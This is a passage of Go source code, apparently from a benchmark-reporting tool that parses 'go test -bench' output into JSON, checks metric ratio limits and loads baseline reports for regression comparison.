		numer, ok1 := lookup(rep.Bench, parts[0], parts[2])
		denom, ok2 := lookup(rep.Bench, parts[1], parts[2])
		if !ok1 || !ok2 || denom == 0 {
			log.Fatalf("-maxratio %q: missing metric %q for %q or %q", r, parts[2], parts[0], parts[1])
		}
		if got := numer / denom; got > limit {
			log.Printf("FAIL: %s/%s %s ratio = %.2f, limit %.2f", parts[0], parts[1], parts[2], got, limit)
			failed = true
		} else {
			log.Printf("ok: %s/%s %s ratio = %.2f <= %.2f", parts[0], parts[1], parts[2], got, limit)
		}
	}

	buf, err := json.MarshalIndent(rep, "", "  ")
	if err != nil {
		log.Fatal(err)
	}
	buf = append(buf, '\n')
	if *out == "" {
		os.Stdout.Write(buf)
	} else if err := os.WriteFile(*out, buf, 0o644); err != nil {
		log.Fatal(err)
	}
	if failed {
		os.Exit(1)
	}
}

// parse accumulates benchmark lines (and the goos/goarch/cpu header)
// from one go test -bench run.
func parse(raw string, rep *output) {
	for _, line := range strings.Split(raw, "\n") {
		switch {
		case strings.HasPrefix(line, "goos: "):
			rep.Goos = strings.TrimPrefix(line, "goos: ")
		case strings.HasPrefix(line, "goarch: "):
			rep.Goarch = strings.TrimPrefix(line, "goarch: ")
		case strings.HasPrefix(line, "cpu: "):
			rep.CPU = strings.TrimPrefix(line, "cpu: ")
		}
		m := benchLine.FindStringSubmatch(line)
		if m == nil {
			continue
		}
		res := result{}
		n, _ := strconv.ParseFloat(m[2], 64)
		res["n"] = n
		for _, pair := range metricRE.FindAllStringSubmatch(m[3], -1) {
			if v, err := strconv.ParseFloat(pair[1], 64); err == nil {
				res[pair[2]] = v
			}
		}
		rep.Bench[m[1]] = res
	}
}

// splitAssert parses NAME:METRIC:VALUE (the value is always last, the
// name may not contain colons — benchmark names here never do).
func splitAssert(s string, parts int) (name, metric string, value float64, err error) {
	ps := strings.Split(s, ":")
	if len(ps) != parts {
		return "", "", 0, fmt.Errorf("want %d colon-separated fields", parts)
	}
	value, err = strconv.ParseFloat(ps[parts-1], 64)
	if err != nil {
		return "", "", 0, err
	}
	return ps[0], ps[1], value, nil
}

// loadBaseline reads a prior benchjson report for -regress diffs.
func loadBaseline(path string) map[string]result {
	raw, err := os.ReadFile(path)
	if err != nil {
		log.Fatalf("-baseline: %v", err)
	}
	var rep output
	if err := json.Unmarshal(raw, &rep); err != nil {
		log.Fatalf("-baseline %s: %v", path, err)
	}
	if len(rep.Bench) == 0 {
		log.Fatalf("-baseline %s: no benchmarks in report", path)
	}
	return rep.Bench
}

// lookup fetches a metric for a benchmark by its procs-stripped name.
func lookup(bench map[string]result, name, metric string) (float64, bool) {
	res, ok := bench[name]
	if !ok {
		return 0, false
	}
	v, ok := res[metric]
	return v, ok
}
